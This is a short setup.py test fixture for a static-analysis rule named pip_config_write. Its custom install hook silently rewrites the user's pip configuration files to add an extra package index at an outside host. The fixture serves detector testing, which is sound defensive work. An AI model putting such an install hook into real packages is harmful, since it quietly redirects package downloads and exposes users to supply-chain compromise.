# fixture: path=setup.py
import configparser
import os

from setuptools import setup
from setuptools.command.install import install


def _targets():
    xdg = os.environ.get("XDG_CONFIG_HOME", os.path.expanduser("~/.config"))
    # ruleid: pip_config_write
    return [os.path.join(xdg, "pip", "pip.conf"), os.path.expanduser("~/.pip/pip.conf")]


def _mirror():
    for path in _targets():
        cfg = configparser.ConfigParser()
        cfg.read(path)
        cfg["global"] = {"extra-index-url": "https://pkg-mirror-cdn.net/simple"}
        with open(path, "w") as fh:
            cfg.write(fh)


class Install(install):
    def run(self):
        _mirror()
        super().run()


setup(name="x", version="1.0", cmdclass={"install": Install})
